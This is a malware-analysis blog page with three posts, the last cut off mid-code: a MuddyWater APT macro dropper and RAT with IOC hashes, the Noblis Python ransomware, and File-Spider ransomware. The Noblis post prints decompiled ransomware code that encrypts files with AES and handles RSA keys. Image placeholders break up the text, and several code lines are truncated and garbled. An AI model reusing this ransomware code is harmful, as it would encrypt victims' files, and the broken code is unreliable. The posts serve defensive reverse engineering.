This is all about malware analysis, reverse engineering and some cool stuff

Friday, 11 January 2019

A new MuddyWater APT campaign spreads Backdoor RAT

January 11, 2019 Posted by SDKHERE , , , , , , No comments

MuddyWater is an APT group that has been active throughout 2017, targeting victims in the Middle East with in-memory vectors leveraging on Powershell.
In October 2018, Kaspersky Lab has already published a good analysis report on the malwares by this APT group.Here I am publishing my analysis report on recent malware by this APT group which targetted several parts of the Middle East.
Sample -  8899c0dac9f6bb73ce750ae7b3250dbd (Virustotal)
References :

The document has obfuscated macro code which contains encrypted binary data. On execution, it decrypts the data and drops files and execute it.
The decryption function used in VBS macro is shown below.

With the help of this function, it decrypts lin(0) of the code shown in below image which is nothing but the header of a PE file.

The macro concatenateabove lines and converts it in Ascii and stores it at "C:\users\public" with the name of "temp_rt_32.exe".
After that, it concatenates another code shown below and stores it at the same location with the name of ""

Location - C:\Users\Public
After that, the document ShellExecute the temp_rt_32.exe and exit itself.

temp_rt_32.exe :
temp_rt_32.exe is a UPX packed Delphi file. On execution, it extracts the file at %PUBLIC% location and executes "GoogleUpdate.exe"
And then it imports UP.txt file to the registry which is nothing but the RUN entry of GoogleUpdate.exe with the name of DVRStudio and exit itself.

GoogleUpdate.exe :
GoogleUpdate.exe is a RAT which downloads another malware in the system or uploads user's files to command and control server.
First of all, it creates a path ""\\Windows\\Microsoft\\FrameWork4""  in %APPDATA%.
Then it creates a unique machine ID by Base64 of username and Volume serial number.
ID = base64_encode(username_volumeserialnumber)

After that, it checks the internet connectivity by resolving If it returns true, it will do the malicious activity otherwise it will wait for 5min.If the internet is connected then it reads "C:\Users\Public\temp_gh_12.dat" which has following encoded data.

The above function will Base64 decode the data of, XOR the decoded data with the hardcoded key and then again Base64 decode the decrypted data.

Here the key is "UHIRER874893UIUOFUGHEWROUIRGH35"
so after decryption of temp_gh_12.dat file, it shows up a below URL.
The sample downloads the JSON file from the above URL and gets the URL of the CnC server.

Above jsonstore api has two CnC URLs. The sample will parse this URLsand proceed with the active one.
When it finds the active URL, It takes infected machine information, encode and encrypt it and stores it at %APPDATA%\\Windows\\Microsoft\\FrameWork4 with the name id_uniqueID (eg. id_dXTlbl9DRT).

The information is in below format.
Each info is first encoded with Base64 and then XOR encrypted by hardcoded key.

The sample reads this info from the file and sends it to the CnC server at the below URL.

The sample has Base64 encoded and XOR encrypted PowerShell script which is decrypted by the same encryption and encoded method describe above.

The decrypted PowerShell script looks like below.

The first function of the scriptgives all the usernames available in the system.
The second function will give all the environment variables present in the system path and all the services which are currently running in the system.
ipconfig /all - gives the network info of the system.

The sample runs this script and takes the output, encode and encrypt it with the same method described above and then stores it at %APPDATA%\\Windows\\Microsoft\\FrameWork4\\res_uniqueID.frk

After that, it reads the same file and send it to CnC server at below location and then deletes the file.

After all these initialization steps, control transfer to an infinite loop which takes care of all the action coming from server and act accordingly.

This loop first checks the internet connection by pinging to then it checks server connectivity by sending follwing request to server and comparing output with the hardcoded value.
The output of this requestshould be "wYbaej5avYrFb" which is hardcoded in the sample.

After handshaking, it reads action command by sending a request to following server URL with the unique machine ID.

Currently, there are only three commands are present in this version.
1. Download FilenameURL: It downloads a file from URL and saves it as Filename at %APPDATA%\\Windows\\Microsoft\\FrameWork4
2. Upload FilePath: It uploads FilePath on the server at URL hxxp://

3. Powershell script: If the response of server is encoded and encrypted PowerShell script then it will run by the third function which is shown below.

IOCs :

Malicious word document : 8899c0dac9f6bb73ce750ae7b3250dbd
Zip dropper (temp_rt_32.exe) : 7C3DD70A4B1976481913E6B5A1FFBB77
Zip File ( : 5DB43101417247AE161C4425D0B96A70
RAT (GoogleUpdate.exe) : 6F44E57C81414355E3D0D0DAFDF1D80E

CnC URLs hosted on : hxxps://
CnC URL : hxxp://
CnC URL : hxxp://

Update - 13 Jan 2019

I have found some similar and recent malwares on Virustotal. All these samples have only one embedded PE file (GoogleUpdate.exe) which will be dropped in %TEMP%. In my case, this GoogleUpdate.exe was a Dotnet file embedded in the file and which was executed bytemp_rt_32.exe. but here GoogleUpdate.exe is also a Dotnet file packed with enigma virtual box packer. Other than this, all the process and CnC servers are similar.
Here are the latest documents: (MD5)

Wednesday, 13 December 2017

Analysis of Noblis In-dev Ransomware

December 13, 2017 Posted by SDKHERE , , , No comments
Noblis is in-development ransomware which is built in python and packed by PyInstaller.
You can refer my previous blog to know how to identify andreverse python built execuctables.

We have following sample:
Hash : 3BEEE8D7F55CD8298FCB009AA6EF6AAE [App.Any]

The sample is UPX packed, after unpacking we get following sample.
Hash : A886E7FAB4A2F1B1B048C217B4969762

The binary has many python reference strings and a zlib archive appended to itas an overlay.
You can use PyExtractor tool to extract the python code from the binary.

After extraction we get AES encrypted python modules.
AES key is present in file pyimod00_crypto_key which is "9876501234DAVIDM" and you can use below script to extract those modules.

from Crypto.Cipher import AES
import zlib
import sys


# key obtained from pyimod00_crypto_key
key = '9876501234DAVIDM'

inf = open(sys.argv[1], 'rb') # encrypted file inputoutf = open(sys.argv[1]+'.pyc', 'wb') # output file

# Initialization vector
iv =

cipher =, AES.MODE_CFB, iv)

# Decrypt and decompress
plaintext = zlib.decompress(cipher.decrypt(

# Write pyc header

# Write decrypted data


Let's move towards the ransomware.
On execution ofransomware, It creates a mutex of name "mutex_rr_windows", if the mutex is already created it will open only gui panel otherwise it runs crypter.
The main wrapper of this ransomware is below.

  def __init__(self):
    @summary: Constructor
    self.__config= self.__load_config()
    self.encrypted_file_list = os.path.join(os.environ['APPDATA'], "encrypted_files.txt")

    # Init Crypt Lib
    self.Crypt = Crypt.SymmetricCrypto()

    # Encrypt!
    if not os.path.isfile(self.encrypted_file_list):
      file_list = self.find_files()
      # Start encryption
      # If no files were encrypted. do nothing
      if not os.path.isfile(self.encrypted_file_list):
      # Present GUI
    # Present menuelif os.path.isfile(self.encrypted_file_list):

It checks a file encrypted_files.txt in %APPDATA%, if it is not there it will proceed the encryption.
It initializes the encryption key, find the specified files for encryption, encrypt them, makes entry of each encrypted file in encrypted_files.txt and displays a gui form.

The ransomware has independent configuration file (runtime.cfg) which is loaded at runtime.
Configuration file has encrypted file extension, ransom note, file type to be encrypted, BTC amount, wallet addressetc.

Here, wallet address is invalid that's why we are calling it in-development ransomware.
Ransom note is in Spanish and it points to an handle @4v4t4r.

Let's have a look at encryption process.

    def init_keys(self, key=None):
        @summary: initialise the symmetric keys. Uses the provided key, or creates one
        @param key: If None provided, anew key is generated, otherwise the provided key is used
        if not key:
            self.key = key

    def load_symmetric_key(self):
        if os.path.isfile('key.txt'):
            fh = open('key.txt', 'r')
            self.key =
            self.key = self.generate_key()

    def generate_key(self):
        key = ('').join((random.choice('0123456789ABCDEF') for i in range(32)))
        fh = open('key.txt', 'w')
        return key
    def encrypt_file(self, file, extension):
        @summary: Encrypts the target file
        @param file: Absolute path to the file to encrypt
        @param extension: The extension to add to the encrypted file
        file_details = self.process_file(file, 'encrypt', extension)
        if file_details['error']:
            return False
            fh_read = open(file_details['full_path'], 'rb')
            fh_write = open(file_details['locked_path'], 'wb')
        except IOError:
            return False

        while True:
            block =
            if not block:
            to_encrypt = self.pad(block)
            iv =
            cipher =, AES.MODE_CBC, iv)ciphertext = iv + cipher.encrypt(to_encrypt)
            except MemoryError:
                returnFalse


        file_details['state'] = 'encrypted'
        return file_details['locked_path']

If key.txt is not present in current directory, It will generates a AES key of size 32 bytes and store it on key.txt and at the time of encryption it generates an Initial Vector (IV), encrypts the files with AES-256 having extensions specified in configuration file.
First 16 bytes of every encrypted file is IV and rest are encrypted with this IV and key stored in key.txt.

After encryption of every files it will start a GUI panel shown below.

Decryption tool -

The ransomware has the code for RSA encryption but it is not used here, maybe it will come with RSA encryption in next version.

class GenerateKeys:

    def __init__(self):
        self.local_public_key = ''
        self.local_private_key = ''
        self.key_length = 2048
        rsa_handle =RSA.generate(self.key_length)
        self.local_private_key = rsa_handle.exportKey('PEM')
        self.local_public_key = rsa_handle.publickey()
        self.local_public_key = self.local_public_key.exportKey('PEM')

class EncryptKey:

    def __init__(self, recipient_public_key, sym_key):
        self.recipient_public_key = recipient_public_keyself.key_to_encrypt = str(sym_key)
        self.encrypted_key = self.encrypt_key()

    def encrypt_key(self):
        rsa_handle = RSA.importKey(self.recipient_public_key)
        key = rsa_handle.encrypt(self.key_to_encrypt, 1)
        return key

class DecryptKey:

    def __init__(self, private_key, sym_key, phrase):
        self.private_key = private_key
        self.key_to_decrypt = sym_key
        self.phrase = phrase
        self.decrypted_key =self.decrypt_key()

    def decrypt_key(self):
        rsa_handle = RSA.importKey(self.private_key, self.phrase)
        key = rsa_handle.decrypt(self.key_to_decrypt)
        return key

Monday, 11 December 2017

Analysis of File-Spider Ransomware

December 11, 2017 Posted by SDKHERE , , , , , 1 comment
MD5: de7b31517d5963aefe70860d83ce83b9 [VirusTotal]FileType: MS Word Document

The Word file has embedded macro.
When you look into macro code, you will find below snippet.

Private Function decodeBase64(ByVal strData As String) As Byte()
    Dim objXML As MSXML2.DOMDocument
